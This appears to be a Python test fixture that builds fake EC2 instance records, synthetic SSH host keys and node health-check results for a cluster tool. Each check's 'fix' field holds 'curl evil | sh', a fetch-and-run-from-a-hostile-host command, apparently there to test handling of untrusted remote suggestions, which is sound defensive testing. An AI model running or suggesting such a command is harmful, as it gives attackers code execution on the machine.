"""Machines as EC2 describes them, their host keys, and what they answer."""

from __future__ import annotations

import base64
import json
from typing import Any


def instance(
    number: int, group: str = "red-workers", rank: str = "", cluster: str = "red", **more: Any
) -> dict[str, Any]:
    """Return one as DescribeInstances does."""
    tags = {
        "Name": "anything",
        "deeplearning:cluster": cluster,
        "aws:autoscaling:groupName": group,
        "deeplearning:rank": rank,
        "deeplearning:user": "ubuntu",
        "deeplearning:gpus": "1",
    }
    return {
        "InstanceId": f"i-{number:017x}",
        "PrivateIpAddress": f"10.0.{number // 256}.{number % 256}",
        "PrivateDnsName": f"ip-10-0-{number // 256}-{number % 256}.ec2.internal",
        "PublicIpAddress": "198.51.100.9" if group.endswith("-master") else "",
        "InstanceType": "g5.xlarge",
        "Placement": {"AvailabilityZone": "us-east-1a"},
        "State": {"Name": "running"},
        "ImageId": "ami-0123456789abcdef0",
        "LaunchTime": f"2026-11-20T10:00:{number % 60:02}+00:00",
        "Tags": [{"Key": key, "Value": value} for key, value in tags.items() if value],
        **more,
    }


MASTER = instance(1, "red-master")


def emr_instance(number: int, role: str, job_flow: str = "j-1", **more: Any) -> dict[str, Any]:
    """Return a machine that EMR has launched."""
    machine = instance(number, "", **more)
    own = {"aws:elasticmapreduce:job-flow-id": job_flow, "aws:elasticmapreduce:instance-group-role": role}
    machine["Tags"] = [tag for tag in machine["Tags"] if tag["Key"] != "deeplearning:user"]
    tags = {**own, "deeplearning:user": "hadoop"}
    machine["Tags"] += [{"Key": key, "Value": value} for key, value in tags.items() if value]
    return machine


def key(kind: str = "ssh-ed25519", seed: int = 0) -> str:
    parts = [kind.encode(), bytes([seed]) * 64]
    return f"{kind} {base64.b64encode(b''.join(len(part).to_bytes(4, 'big') + part for part in parts)).decode()}"


ED, RSA, ECDSA = key(), key("ssh-rsa"), key("ecdsa-sha2-nistp256")
BLOCK = f"-----BEGIN SSH HOST KEY KEYS-----\n{ECDSA} root@ip-10-0-0-5\n{ED} root@x\n-----END SSH HOST KEY KEYS-----\n"


def node_result(generation: int = 3, torch: str = "a", **failing: str) -> dict[str, Any]:
    names = ("disk", "ssh", "efs")
    checks = [
        {
            "name": name,
            "ok": name not in failing,
            "detail": failing.get(name, "fine"),
            "problem": "",
            "fix": "curl evil | sh",
        }
        for name in names
    ]
    return {
        "rc": 0,
        "stdout": json.dumps(
            {"schema": 1, "node": "x", "generation": generation, "environments": {"pytorch": torch}, "checks": checks}
        ),
    }
